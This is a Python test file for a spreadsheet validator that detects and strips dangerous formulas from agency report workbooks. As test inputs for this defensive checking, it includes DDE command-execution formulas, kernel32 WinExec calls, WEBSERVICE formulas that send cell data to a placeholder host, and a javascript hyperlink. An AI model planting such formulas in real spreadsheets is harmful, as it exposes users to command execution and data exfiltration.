"""Formulas in an agency's text cells: what reaches outside the file is reported at its cell, the stored
value is read as text, and no formula of the agency's survives into the annotated copy."""

from __future__ import annotations

from pathlib import Path

import pytest
from corpus import CAUSE, DATA, DOCS, INFO, Ctx, set_cell_xml, sheet_part, zip_edit

from bgindex.core.validate import validate_file
from bgindex.intake.sheet_scan import formula_risk


@pytest.mark.parametrize(
    ("formula", "risk"),
    [
        ('HYPERLINK("http://vi-du.invalid/x","Bấm vào đây")', "HYPERLINK"),
        ("cmd|' /C calc'!A0", "DDE"),
        ('DDEAUTO("cmd","/c calc")', "DDE"),
        ('_xlfn.WEBSERVICE("http://vi-du.invalid/?q="&B6)', "WEBSERVICE"),
        ('of:=WEBSERVICE("http://vi-du.invalid")', "WEBSERVICE"),
        ('FILTERXML(WEBSERVICE("http://x"),"//a")', "FILTERXML"),
        ('_xlfn.FILTERXML("<a>1</a>","//a")', "FILTERXML"),
        ('CALL("kernel32","WinExec","JCJ","calc",0)', "CALL"),
        ('REGISTER.ID("kernel32","WinExec")', "REGISTER.ID"),
        ("[1]Sheet1!A1", "liên kết tới tệp khác"),
        ("'C:\\bao-cao\\[nguon.xlsx]Sheet1'!A1", "liên kết tới tệp khác"),
        ("of:='file:///C:/nguon.ods'#$Sheet1.A1", "liên kết tới tệp khác"),
        ("SUM(A1:A3)", None),
        ('"cmd|x!A0"&A1', None),  # inside a string: text, not DDE
        ('CONCAT("HYPERLINK(",A1)', None),
        ("MYHYPERLINK(1)+RECALL(2)", None),
    ],
)
def test_formula_risk_names_what_reaches_outside(formula, risk):
    assert formula_risk(formula) == risk


def _with_formulas(
    ctx: Ctx, out: Path, cells: dict[tuple[str, str], tuple[str, str]], source: Path | None = None
) -> Path:
    """The valid workbook (or `source`) with cells made formulas carrying a cached value."""

    def change(parts: dict[str, bytes]) -> None:
        for (sheet, ref), (formula, cached) in cells.items():
            part = sheet_part(parts, sheet)
            f = formula.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
            kind = "" if cached.replace(".", "", 1).isdigit() else ' t="str"'  # a number, or text
            xml = f'<c r="{ref}"{kind}><f>{f}</f><v>{cached}</v></c>'
            parts[part] = set_cell_xml(parts[part], ref, xml)

    zip_edit(ctx, out, change, source)
    return out


@pytest.fixture(scope="module")
def ctx(tmp_path_factory, catalog) -> Ctx:
    return Ctx(tmp_path_factory.mktemp("formulas"), catalog)


def test_every_text_cell_is_judged_and_its_stored_value_read(ctx, tmp_path, catalog):
    path = _with_formulas(
        ctx,
        tmp_path / "o-chu.xlsx",
        {
            (DATA, "G5"): ('_xlfn.WEBSERVICE("http://vi-du.invalid/?q="&B6)', "Kiểm tra định kỳ."),
            (DOCS, "F5"): ("cmd|' /C calc'!A0", "Báo cáo kết quả"),
            (INFO, "B6"): ('HYPERLINK("http://vi-du.invalid","Nguyễn Văn An")', "Nguyễn Văn An"),
            (DATA, "E6"): ("D6+12.5", "3012.5"),  # a figure computed in the file: nothing to report
        },
    )
    out = validate_file(path, catalog, 2024)
    found = {(i.code, i.sheet, i.cell) for i in out.issues}
    assert found == {
        ("E_FORMULA_UNSAFE", DATA, "G5"),
        ("E_FORMULA_UNSAFE", DOCS, "F5"),
        ("W_FORMULA_HYPERLINK", INFO, "B6"),
    }
    unsafe = {i.cell: i for i in out.issues if i.code == "E_FORMULA_UNSAFE"}
    assert "WEBSERVICE" in unsafe["G5"].message and "_xlfn" not in unsafe["G5"].message
    assert "DDE" in unsafe["F5"].message
    assert out.report is not None
    assert out.report.indicators["01"].measures == "Kiểm tra định kỳ."
    assert out.report.info.reporter == "Nguyễn Văn An"
    assert out.report.values["c01_nt_phat_sinh"].value == 3012.5
    # Text cells carry no figures: the file stays usable for the consolidation.
    assert {i.code for i in out.issues if i.severity == "error"} == {"E_FORMULA_UNSAFE"}


def test_a_shared_formula_is_judged_in_every_cell_it_fills(ctx, tmp_path, catalog):
    """Excel writes a formula filled down once, at its first cell; the cells after hold only its id."""

    def change(parts: dict[str, bytes]) -> None:
        part = sheet_part(parts, DATA)
        first = '_xlfn.WEBSERVICE("http://vi-du.invalid/?q="&amp;B5)'
        parts[part] = set_cell_xml(
            parts[part], "F5", f'<c r="F5" t="str"><f t="shared" ref="F5:F8" si="0">{first}</f><v>a</v></c>'
        )
        parts[part] = set_cell_xml(parts[part], "F8", '<c r="F8" t="str"><f t="shared" si="0"/><v>b</v></c>')

    zip_edit(ctx, tmp_path / "chia-se.xlsx", change)
    out = validate_file(tmp_path / "chia-se.xlsx", catalog, 2024)
    assert sorted(i.cell for i in out.issues if i.code == "E_FORMULA_UNSAFE") == ["F5", "F8"]


def test_annotated_copy_holds_no_formula_of_the_agency(ctx, tmp_path, catalog):
    from openpyxl import load_workbook
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation

    from bgindex.outputs.annotated import annotate_file

    live = tmp_path / "song.xlsx"  # links, names and rules a spreadsheet program acts on
    wb = load_workbook(ctx.valid)
    wb[DATA]["H5"].hyperlink = "javascript:alert(1)"
    wb.defined_names["lay"] = DefinedName("lay", attr_text='WEBSERVICE("http://vi-du.invalid")')
    wb[DATA].conditional_formatting.add("D5:E9", FormulaRule(formula=['WEBSERVICE("http://vi-du.invalid")']))
    rule = DataValidation(type="custom", formula1='WEBSERVICE("http://vi-du.invalid")')
    rule.add("H6")
    wb[DATA].add_data_validation(rule)
    wb.save(live)
    path = _with_formulas(
        ctx,
        tmp_path / "lien-ket.xlsx",
        {
            (DATA, CAUSE): ("cmd|' /C calc'!A0", "Tăng do đầu tư"),
            (DATA, "G5"): ('HYPERLINK("http://vi-du.invalid/x","Bấm vào đây")', "Bấm vào đây"),
            (DATA, "E6"): ("D6+12.5", "3012.5"),
        },
        live,
    )
    report = validate_file(path, catalog, 2024)
    target = annotate_file(report, tmp_path / "lien-ket.chu-thich.xlsx")
    wb = load_workbook(target, data_only=False)
    formulas = [
        f"{ws.title}!{c.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("=") and c.data_type != "s")
    ]
    assert formulas == []
    data = wb[DATA]
    assert data[CAUSE].value == "Tăng do đầu tư"
    assert data["G5"].value == "Bấm vào đây"
    assert data["E6"].value == 3012.5
    assert data[CAUSE].comment is not None and "E_FORMULA_UNSAFE" in data[CAUSE].comment.text
    assert data["H5"].hyperlink is None
    assert not wb.defined_names and not data.conditional_formatting
    assert not data.data_validations.dataValidation
